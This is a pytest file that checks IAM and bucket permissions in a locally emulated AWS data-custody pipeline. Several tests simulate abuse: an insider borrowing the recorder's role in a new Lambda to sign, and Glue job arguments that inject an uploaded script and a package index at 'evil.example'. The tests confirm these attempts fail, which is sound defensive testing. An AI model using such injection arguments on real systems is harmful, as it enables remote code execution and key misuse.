"""The base as it is deployed: what each principal may do, and no more.

What each principal is refused is in `test_permissions`.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import shutil
import urllib.request
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final

import pytest
from tests.infra.cloudformation.conftest import (
    DEPLOYERS,
    LARGE_OBJECT_BYTES,
    Deployed,
    answer,
    bucket,
)
from tests.infra.conftest import REGION
from tests.support.contracts import FOLDER, deployed_contracts
from tests.support.grants import unexplained
from tests.support.local_aws import ACCOUNT, LocalAws, role_arn
from tests.support.patience import PATIENCE_SECONDS, wait_for

from custody.aws.kms.public_keys import trusted_keys
from custody.aws.kms.seal_key import fetch_seal_keys
from custody.core.datasets.uploads import read_uploads
from custody.core.formats.dsse import Envelope
from custody.core.records.checking import TrustedKey, read_envelope
from custody.core.records.model import UnreadableReason, UnreadableRecord
from custody.core.records.names import record_id
from custody.core.records.statement import from_statement, read_record
from custody.core.seal.layout import log_origin
from custody.objects import ObjectVersion
from custody.settings import Settings

DAY: Final = "incoming/customers/dt=2026-11-01"
MANY_UPLOADERS: Final = [
    f"arn:aws:iam::{ACCOUNT}:user/{name}"
    for name in ("web-shop", "crm-export", "partner-feed", *(f"branch-{n:03}" for n in range(90)))
]


def test_deploying_again_changes_nothing_and_an_update_goes_through(deployed: Deployed) -> None:
    assert "custody-local CREATE_COMPLETE" in deployed.said
    again = deployed.deploy()
    for stack in ("custody-local-bootstrap", "custody-local-evidence", "custody-local"):
        assert f"{stack}: no changes" in again
    # Every nested stack is updated, those without a change of their own included.
    updated = deployed.deploy(
        *("--parameter", "QueryResultDays=7", "--parameter", "LogDays=7"),
        *("--parameter", f"UploaderArns={','.join(MANY_UPLOADERS)}"),
        *("--parameter", f"ErasureArns=arn:aws:iam::{ACCOUNT}:user/insider"),
        *("--parameter", f"KeyAdministratorArns={','.join(DEPLOYERS)}"),
    )
    assert "custody-local-evidence: custody-local-evidence UPDATE_COMPLETE" in updated
    assert "custody-local: custody-local UPDATE_COMPLETE" in updated
    # As many as a parameter of a stack holds.
    settings = settings_of(deployed.aws)
    assert settings["uploader_arns"] == ",".join(MANY_UPLOADERS)
    declared = {
        contract.dataset: tuple(sorted(one.name for one in contract.about.uploaders))
        for contract in deployed_contracts()
    }
    assert declared["orders"] == ("partner-feed", "web-shop")
    assert read_uploads(settings["uploads"]) == declared | {"returns": ("web-shop",)}
    assert f"{MANY_UPLOADERS[-1]} uploads no dataset: it is no role of any contract" in updated
    # What the services say of the resources is what the templates say.
    for stack in ("custody-local-evidence", "custody-local"):
        deployed.aws.command("readback", "--stack", stack)


def test_a_contract_that_breaks_is_refused_until_its_version_says_so(deployed: Deployed) -> None:
    contract = deployed.repository / "include" / "contracts" / "returns.odcs.yaml"
    before = contract.read_text(encoding="utf-8")
    contract.write_text(before.replace("decimal(10,2)", "decimal(8,2)"), encoding="utf-8")
    try:
        with pytest.raises(
            AssertionError, match=r"returns\.odcs\.yaml:\d+: amount_usd\.physicalType"
        ):
            deployed.deploy()
    finally:
        contract.write_text(before, encoding="utf-8")


def test_who_is_named_may_erase_from_bronze_and_administer_keys_and_no_other_administrator(
    aws: LocalAws,
) -> None:
    """After the update above."""
    key = f"{DAY}/erased.csv"
    put = aws.client("s3", "web-shop").put_object(Bucket=bucket("raw"), Key=key, Body=b"x")
    version = {"Bucket": bucket("raw"), "Key": key, "VersionId": put["VersionId"]}
    erase = {**version, "BypassGovernanceRetention": True}
    insider, deployer = (aws.client("s3", who) for who in ("insider", "platform-engineer"))
    assert answer(deployer.delete_object, **erase) == "AccessDenied"
    assert answer(insider.delete_object, **version) == "AccessDenied", "it is locked"
    assert answer(insider.delete_object, **erase) == "ok"

    alias = {"KeyId": "alias/custody-local-signing"}
    keys = {who: aws.client("kms", who) for who in ("insider", "platform-engineer")}
    assert answer(keys["platform-engineer"].describe_key, **alias) == "ok"
    assert answer(keys["insider"].describe_key, **alias) == "AccessDeniedException"
    assert answer(keys["insider"].disable_key, **alias) == "AccessDeniedException"


def settings_of(aws: LocalAws) -> dict[str, str]:
    """The runtime settings, as Airflow reads them."""
    name = "/custody/local/airflow/variables/custody"
    ssm = aws.client("ssm", "airflow")
    settings: dict[str, str] = json.loads(ssm.get_parameter(Name=name)["Parameter"]["Value"])
    return settings


def test_airflow_reads_the_settings(aws: LocalAws) -> None:
    settings = settings_of(aws)
    assert settings["raw_bucket"] == bucket("raw")
    assert (settings["account_id"], settings["region"]) == (ACCOUNT, REGION)
    assert (settings["database"], settings["workgroup"]) == ("custody_local", "custody-local")
    location = settings["code_location"].removeprefix(f"s3://{bucket('artifacts')}/")
    s3 = aws.client("s3", "platform-engineer")
    listed = s3.list_objects_v2(Bucket=bucket("artifacts"), Prefix=f"{location}/")["Contents"]
    assert [item["Key"].removeprefix(f"{location}/") for item in listed] == [
        "SHA256SUMS",
        *sorted(f"contracts/{name}" for name in {"returns.odcs.yaml", *names("contracts")}),
        "custody.zip",
        "jobs/audit.py",
        "jobs/bronze_to_silver.py",
        "jobs/expire.py",
        "jobs/reconcile.py",
        "jobs/record_large.py",
        "jobs/silver_to_gold.py",
        "modules.gluewheels.zip",
        "recorder.zip",
        *sorted(f"sql/gold/{name}" for name in {"returns_by_status.sql", *names("sql/gold")}),
    ]


def names(folder: str) -> list[str]:
    """What the files in a folder of `include` are called."""
    return [file.name for file in (FOLDER.parent / folder).iterdir()]


def recorded(aws: LocalAws, key: str, version: str) -> Envelope:
    """The record of an object version, once it is there."""
    reader = aws.client("s3", "insider")
    name = record_id(ObjectVersion(bucket("raw"), key, version))

    def kept() -> list[str]:
        listed = reader.list_objects_v2(Bucket=bucket("provenance"), Prefix="provenance/incoming/")
        return [i["Key"] for i in listed.get("Contents", []) if name in i["Key"]]

    found = wait_for(kept)
    line = reader.get_object(Bucket=bucket("provenance"), Key=found[0])["Body"].read()
    return Envelope.parse(line)


def test_what_is_uploaded_gets_a_signed_record(aws: LocalAws) -> None:
    key = f"{DAY}/ a+b%20é'.csv"
    uploader = aws.client("s3", "web-shop")
    version = uploader.put_object(Bucket=bucket("raw"), Key=key, Body=b"a,b\n")["VersionId"]
    envelope = recorded(aws, key, version)
    assert from_statement(envelope.payload).version.key == key
    kms = aws.role_client("kms", "glue")
    assert kms.get_public_key(KeyId=envelope.signatures[0].keyid)["KeyUsage"] == "SIGN_VERIFY"


def test_what_is_too_large_for_the_lambda_is_recorded_by_the_job(aws: LocalAws) -> None:
    key, content = f"{DAY}/large é.csv", b"x" * (LARGE_OBJECT_BYTES + 1)
    uploader = aws.client("s3", "web-shop")
    version = uploader.put_object(Bucket=bucket("raw"), Key=key, Body=content)["VersionId"]
    record = from_statement(recorded(aws, key, version).payload)
    assert record.sha256 == hashlib.sha256(content).hexdigest()
    runs = aws.client("glue", "platform-engineer").get_job_runs(
        JobName="custody-local-record-large"
    )["JobRuns"]
    assert len(runs) == 1
    assert runs[0]["Arguments"]["--record_id"] == record_id(
        ObjectVersion(bucket("raw"), key, version)
    )
    # No session of its roles has been taken by anybody else yet.
    assert unexplained(aws.home / "logs" / "grants.jsonl", "recorder-large", "deployer") == []


def test_what_nobody_can_read_gets_a_record_that_says_so(aws: LocalAws) -> None:
    """ministack keeps archives as S3 does."""
    uploader = aws.client("s3", "web-shop")
    key = f"{DAY}/archived.csv"
    put = uploader.put_object(Bucket=bucket("raw"), Key=key, Body=b"x", StorageClass="GLACIER")
    record = read_record(recorded(aws, key, put["VersionId"]).payload)
    assert isinstance(record, UnreadableRecord)
    assert record.reason is UnreadableReason.ARCHIVED


WRITES: Final = {
    # place: who may put an object there
    ("raw", f"{DAY}/x.csv"): {"web-shop", "crm-export", "partner-feed"},
    ("raw", "incoming/orders/dt=2026-11-01/x.jsonl"): {"web-shop", "partner-feed"},
    ("raw", "incoming/sensors/dt=2026-11-01/x.parquet"): {"partner-feed"},
    ("raw", "incoming/returns/dt=2026-11-01/x.csv"): {"web-shop"},
    ("raw", "incoming/smoke/dt=2026-11-01/x.txt"): {"web-shop", "crm-export", "partner-feed"},
    ("raw", "incoming/wishes/dt=2026-11-01/x.csv"): set[str](),  # of no contract
    ("raw", "elsewhere/x.csv"): set[str](),
    ("provenance", "provenance/answers/dt=2026-11-01/0/0.json"): {"airflow"},
    ("provenance", "provenance/incoming/dt=2026-11-01/0.json"): {"recorder", "recorder-large"},
    ("provenance", "provenance/late/dt=2026-11-01/0.json"): {"recorder"},
    ("provenance", "provenance/lineage/dt=2026-11-01/0.json"): {"glue"},
    ("provenance", "provenance/expiry/dt=2026-11-01/jr_0.json"): {"audit"},
    ("provenance", "provenance/runs/dt=2026-11-01/jr_0.json"): {"audit"},
    ("provenance", "seal/checkpoint"): {"audit"},
    ("processed", "silver/customers/dt=2026-11-01/run=1/part-0.parquet"): {"glue"},
    ("processed", "quarantine/customers/dt=2026-11-01/run=1/part-0.parquet"): {"glue"},
    ("processed", "files/customers/dt=2026-11-01/run=1/part-0.parquet"): {"glue"},
    ("processed", "elsewhere/x"): set[str](),
    ("analytics", "gold/customers/dt=2026-11-01/run=1/part-0.parquet"): {"glue"},
    ("analytics", "quality/results/dt=2026-11-01/run=1/silver_x.json"): {"glue"},
    ("analytics", "reconciliation/run=1/dt=2026-11-01/hour=00/x.parquet"): {"audit"},
    ("analytics", "record_checks/dt=2026-11-01/run=1/x.parquet"): {"audit"},
    ("analytics", "lineage_checks/dt=2026-11-01/run=1/x.parquet"): {"audit"},
    ("analytics", "pages/0.json"): {"airflow"},
    ("analytics", "publications/x/dt=2026-11-01/000001.json"): {"airflow"},
    ("analytics", "elsewhere/x"): set[str](),
    ("trail", f"AWSLogs/{ACCOUNT}/CloudTrail/x.json.gz"): set[str](),
    ("athena-results", "custody-local/x.csv"): set[str](),  # but through Athena
    ("athena-results", "openlineage/event-1.json"): {"airflow"},
}
ROLES: Final = ("recorder", "recorder-large", "glue", "audit")


@pytest.fixture(scope="module")
def s3_of(aws: LocalAws) -> dict[str, Any]:
    users = ("web-shop", "crm-export", "partner-feed", "insider", "airflow")
    return {user: aws.client("s3", user) for user in users} | {
        role: aws.role_client("s3", role) for role in ROLES
    }


@pytest.mark.parametrize("place", WRITES, ids="/".join)
def test_who_writes_where(s3_of: dict[str, Any], place: tuple[str, str]) -> None:
    role, key = place
    is_once = role == "provenance" or key.startswith(("publications/", "quality/"))
    once = {"IfNoneMatch": "*"} if is_once else {}
    answers = {
        who: answer(s3.put_object, Bucket=bucket(role), Key=key, Body=b"x", **once)
        for who, s3 in s3_of.items()
    }
    refused = {who for who, said in answers.items() if said == "AccessDenied"}
    assert answers.keys() - refused == WRITES[place]
    # What another has written already is not refused for want of a right.
    assert set(answers.values()) <= {"ok", "AccessDenied", "PreconditionFailed"}


def test_a_query_has_its_result_through_athena(aws: LocalAws) -> None:
    athena = aws.client("athena", "airflow")
    query = athena.start_query_execution(QueryString="SELECT 1", WorkGroup="custody-local")
    what = {"QueryExecutionId": query["QueryExecutionId"]}

    def ended() -> Any:
        status = athena.get_query_execution(**what)["QueryExecution"]["Status"]
        return status if status["State"] not in ("QUEUED", "RUNNING") else None

    status = wait_for(ended)
    assert status["State"] == "SUCCEEDED", status
    key = f"custody-local/{query['QueryExecutionId']}.csv"
    result = {"Bucket": bucket("athena-results"), "Key": key}
    assert aws.client("s3", "airflow").get_object(**result)["Body"].read()
    over = aws.client("s3", "insider").put_object
    assert answer(over, **result, Body=b"nothing was found") == "AccessDenied"


@pytest.mark.parametrize("role", ["raw", "provenance", "processed", "analytics", "trail"])
def test_no_part_of_the_pipeline_deletes(s3_of: dict[str, Any], role: str) -> None:
    for place, key in WRITES:
        if place == role:
            answers = {
                who: answer(s3_of[who].delete_object, Bucket=bucket(role), Key=key)
                for who in ("web-shop", "recorder", "glue", "airflow")
            }
            assert set(answers.values()) == {"AccessDenied"}, (key, answers)


def test_glue_clears_sparks_working_files(s3_of: dict[str, Any]) -> None:
    key = "silver/customers/dt=2026-11-01/run=2/_temporary/0/task/part-0.parquet"
    s3_of["glue"].put_object(Bucket=bucket("processed"), Key=key, Body=b"")
    assert answer(s3_of["glue"].delete_object, Bucket=bucket("processed"), Key=key) == "ok"


def test_an_uploader_reads_nothing_back(s3_of: dict[str, Any]) -> None:
    uploader, raw = s3_of["web-shop"], bucket("raw")
    uploader.put_object(Bucket=raw, Key=f"{DAY}/mine.csv", Body=b"x")
    assert answer(uploader.get_object, Bucket=raw, Key=f"{DAY}/mine.csv") == "AccessDenied"
    assert answer(uploader.list_objects_v2, Bucket=raw) == "AccessDenied"


def test_airflow_sees_bronze_but_does_not_read_it(s3_of: dict[str, Any]) -> None:
    airflow, raw = s3_of["airflow"], bucket("raw")
    s3_of["web-shop"].put_object(Bucket=raw, Key=f"{DAY}/seen.csv", Body=b"x")
    assert answer(airflow.list_object_versions, Bucket=raw) == "ok"
    assert answer(airflow.get_object, Bucket=raw, Key=f"{DAY}/seen.csv") == "AccessDenied"


def test_the_recorders_role_signs_nothing_in_another_function(aws: LocalAws) -> None:
    code = (
        "import boto3\n"
        "def handler(key, _context):\n"
        "    kms = boto3.client('kms')\n"
        "    return kms.sign(KeyId=key, Message=bytes(32), MessageType='DIGEST',\n"
        "                    SigningAlgorithm='ECDSA_SHA_256')['KeyId']\n"
    )
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("mine.py", code)
    insider = aws.client("lambda", "insider")
    insider.create_function(
        FunctionName="mine",
        Role=role_arn("recorder"),
        Runtime="python3.12",
        Handler="mine.handler",
        Code={"ZipFile": archive.getvalue()},
        Timeout=60,
    )
    key = json.dumps(settings_of(aws)["signing_key_arn"])
    said = insider.invoke(FunctionName="mine", Payload=key)["Payload"].read().decode()
    assert "AccessDeniedException" in said, said
    assert "kms:Sign" in said, said


def test_who_starts_a_job_brings_no_code(aws: LocalAws) -> None:
    """An uploader's file is what Glue's role may read, and Airflow may start the job."""
    key = f"{DAY}/mine.py"
    uploader = aws.client("s3", "web-shop")
    uploader.put_object(Bucket=bucket("raw"), Key=key, Body=b"raise SystemExit('mine ran')\n")
    mine = f"s3://{bucket('raw')}/{key}"
    glue, name = aws.client("glue", "airflow"), "custody-local-bronze-to-silver"
    arguments = {
        "--scriptLocation": mine,
        "--extra-py-files": mine,
        "--additional-python-modules": "evil==1",
        "--python-modules-installer-option": "--index-url=https://evil.example",
        "--code_location": f"s3://{bucket('raw')}/{DAY}",
        "--dataset": "nothing",
        "--dt": "2026-11-01",
    }
    run = glue.start_job_run(JobName=name, Arguments=arguments)["JobRunId"]

    def ended() -> Any:
        state = glue.get_job_run(JobName=name, RunId=run)["JobRun"]
        return state if state["JobRunState"] not in ("STARTING", "RUNNING") else None

    state = wait_for(ended)
    # The platform's own script ran, with the platform's modules, and looked into its own bundle.
    wanted = f"{settings_of(aws)['code_location']}/contracts/nothing.odcs.yaml"
    assert (state["JobRunState"], state.get("ErrorMessage")) == (
        "FAILED",
        f"ObjectAbsent: there is no {wanted}",
    )


@pytest.mark.parametrize(
    ("service", "operation", "arguments", "said"),
    [
        ("glue", "get_job", {"JobName": "custody-local-bronze-to-silver"}, "ok"),
        ("glue", "get_job", {"JobName": "custody-local-silver-to-gold"}, "ok"),
        ("glue", "get_job", {"JobName": "other"}, "AccessDeniedException"),
        ("glue", "get_tables", {"DatabaseName": "custody_local"}, "ok"),
        ("glue", "get_tables", {"DatabaseName": "other"}, "AccessDeniedException"),
        ("glue", "delete_table", {"DatabaseName": "custody_local", "Name": "x"}, "Access"),
        ("athena", "get_work_group", {"WorkGroup": "custody-local"}, "ok"),
        ("athena", "get_work_group", {"WorkGroup": "primary"}, "AccessDeniedException"),
        ("ssm", "get_parameter", {"Name": "/custody/local/airflow/variables/x"}, "Parameter"),
        ("ssm", "get_parameter", {"Name": "/other"}, "AccessDeniedException"),
        ("iam", "list_users", {}, "AccessDenied"),
        ("cloudtrail", "stop_logging", {"Name": "custody-local"}, "AccessDenied"),
    ],
)
def test_what_airflow_may_ask_for(
    aws: LocalAws, service: str, operation: str, arguments: dict[str, str], said: str
) -> None:
    client = aws.client(service, "airflow")
    assert answer(getattr(client, operation), **arguments).startswith(said)


def test_only_airflow_pages(aws: LocalAws) -> None:
    page = {"TopicArn": f"arn:aws:sns:{REGION}:{ACCOUNT}:custody-local-pages", "Message": "test"}
    answers = {
        who: answer(aws.client("sns", who).publish, **page)
        for who in ("airflow", "insider", "web-shop")
    }
    assert answers == {
        "airflow": "ok",
        "insider": "AuthorizationError",
        "web-shop": "AuthorizationError",
    }


def test_nobody_tells_the_recorder_of_objects_but_s3(aws: LocalAws) -> None:
    """Who deploys may, to send dead letters back."""
    answers = {}
    for queue in ("recorder", "recorder-dlq"):
        url = aws.client("sqs", "insider").get_queue_url(QueueName=f"custody-local-{queue}")
        answers[queue] = {
            who: answer(
                aws.client("sqs", who).send_message, QueueUrl=url["QueueUrl"], MessageBody="{}"
            )
            for who in ("insider", "airflow", "web-shop", "platform-engineer")
        }
    assert answers["recorder"].pop("platform-engineer") == "ok"
    assert {said for who in answers.values() for said in who.values()} == {"AccessDenied"}


def test_who_changes_the_signing_key_is_in_the_trail(aws: LocalAws) -> None:
    """By one who may administer it; what using a key tells stays out, as there is so much."""
    kms, key = aws.client("kms", "platform-engineer"), settings_of(aws)["signing_key_arn"]
    before = {event["eventID"] for event in logged(aws)}
    policy = kms.get_key_policy(KeyId=key, PolicyName="default")["Policy"]
    kms.put_key_policy(KeyId=key, PolicyName="default", Policy=policy)
    kms.disable_key(KeyId=key)
    kms.enable_key(KeyId=key)
    kms.get_public_key(KeyId=key)

    told = [event for event in logged(aws) if event["eventSource"] == "kms.amazonaws.com"]
    mine = [event for event in told if event["eventID"] not in before]
    assert sorted(event["eventName"] for event in mine) == [
        "DisableKey",
        "EnableKey",
        "PutKeyPolicy",
    ]
    assert {event["resources"][0]["ARN"] for event in mine} == {key}
    assert {event["userIdentity"]["userName"] for event in mine} == {"platform-engineer"}
    assert all(event["readOnly"] is False for event in told)


def logged(aws: LocalAws) -> list[dict[str, Any]]:
    """Everything that the trail has until now."""
    place = f"http://127.0.0.1:{aws.port}/_local/cloudtrail/flush"
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(urllib.request.Request(place, b"{}"), timeout=PATIENCE_SECONDS) as answered:
        assert answered.status == 200
    s3, where = aws.client("s3", "insider"), bucket("trail")
    prefix = f"AWSLogs/{ACCOUNT}/CloudTrail/"
    pages = s3.get_paginator("list_objects_v2").paginate(Bucket=where, Prefix=prefix)
    events: list[dict[str, Any]] = []
    for key in (item["Key"] for page in pages for item in page.get("Contents", ())):
        packed = s3.get_object(Bucket=where, Key=key)["Body"].read()
        events += json.loads(gzip.decompress(packed))["Records"]
    return events


@pytest.mark.parametrize("role", ROLES)
def test_nobody_becomes_a_services_role(aws: LocalAws, role: str) -> None:
    answers = {
        who: answer(
            aws.client("sts", who).assume_role, RoleArn=role_arn(role), RoleSessionName="test"
        )
        for who in ("insider", "platform-engineer", "airflow", "web-shop")
    }
    assert set(answers.values()) == {"AccessDenied"}


def test_new_keys_take_over_and_the_old_ones_are_believed_for_their_time(
    deployed: Deployed, tmp_path: Path
) -> None:
    """As docs/operations.md tells; last, for the stack goes on with the new keys."""
    aws = deployed.aws
    sealed = settings_of(aws)["seal_key_arn"]
    uploader, kms = aws.client("s3", "web-shop"), aws.role_client("kms", "glue")

    def signed(name: str) -> Envelope:
        put = uploader.put_object(Bucket=bucket("raw"), Key=f"{DAY}/{name}", Body=b"a,b\n")
        return recorded(aws, f"{DAY}/{name}", put["VersionId"])

    before = signed("before.csv")
    (old,) = (signature.keyid for signature in before.signatures)
    until = from_statement(before.payload).hashed_at + timedelta(seconds=1)
    former = f"{old}={until:%Y-%m-%dT%H:%M:%SZ}"
    deployed.deploy(
        *("--parameter", f"FormerSigningKeys={former}", "--parameter", f"FormerSealKeys={sealed}"),
        *("--parameter", "ErasureArns=", "--parameter", "KeyAdministratorArns="),
        repository=with_other_keys(deployed.repository, tmp_path / "repository"),
    )
    after = signed("after.csv")
    (new,) = (signature.keyid for signature in after.signatures)

    assert old != new
    keys = trusted_keys(kms, Settings.parse(settings_of(aws)))
    assert [trouble(envelope, keys) for envelope in (before, after)] == [None, None]
    late = replace(keys[old], valid_until=until - timedelta(days=1))
    assert "outside the period of its key" in str(trouble(before, keys | {old: late}))

    settings = Settings.parse(settings_of(aws))
    origin = log_origin(settings.provenance_bucket)
    for role in ("airflow", "audit"):
        # Who reads what the runs state may have both public halves.
        client = aws.client("kms", role) if role == "airflow" else aws.role_client("kms", role)
        former_keys = settings.former_seal_keys
        seal = fetch_seal_keys(client, settings.seal_key_arn, former_keys, origin)
        assert [len({key.public_key for key in seal.all}), former_keys] == [2, (sealed,)]


def trouble(envelope: Envelope, keys: Mapping[str, TrustedKey]) -> str | None:
    """Why a record is not to be believed."""
    return read_envelope(
        envelope.to_json_line(),
        keys,
        stored=ObjectVersion(bucket("provenance"), "any", "any"),
        stored_at=datetime.now(UTC),
    ).trouble


def with_other_keys(original: Path, repository: Path) -> Path:
    """A copy of the repository in which the keys that sign records and seal have new logical
    names."""
    shutil.copytree(original, repository, symlinks=True)
    keys = repository / "infra" / "cloudformation" / "keys.yaml"
    template = keys.read_text(encoding="utf-8")
    for key in ("Signing", "Seal"):
        for name in ("  {}:\n", "!Ref {}\n", "${{{}}}"):
            assert name.format(key) in template
            template = template.replace(name.format(key), name.format(f"{key}From2027"))
    keys.write_text(template, encoding="utf-8")
    return repository
